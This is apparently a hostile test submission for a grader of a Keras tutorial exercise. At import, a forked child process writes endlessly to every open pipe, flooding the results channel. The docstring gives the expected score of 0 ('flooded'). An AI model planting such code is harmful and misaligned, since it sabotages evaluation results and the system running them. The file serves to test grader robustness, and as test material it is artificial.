"""Hostile: leave a process behind that writes to every pipe it can, without end.

Honest points: 10, but it floods its own lesson's results channel, so that
run's results can't be trusted: 0 points ("flooded").
"""

import os
import stat

import keras

if os.fork() == 0:
    _pipes = []
    for _fd in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISFIFO(os.fstat(int(_fd)).st_mode):
                _pipes.append(int(_fd))
        except OSError:
            pass
    while True:
        for _fd in _pipes:
            try:
                os.write(_fd, b"x" * 4000 + b"\n")
            except OSError:
                pass


def build_model():
    """The tutorial's model: Input(28, 28) → Flatten → Dense(128, relu) → Dense(10)."""
    model = keras.Sequential(
        [
            keras.Input(shape=(28, 28)),
            keras.layers.Flatten(),
            keras.layers.Dense(128, activation="relu"),
            keras.layers.Dense(10),
        ]
    )
    return model
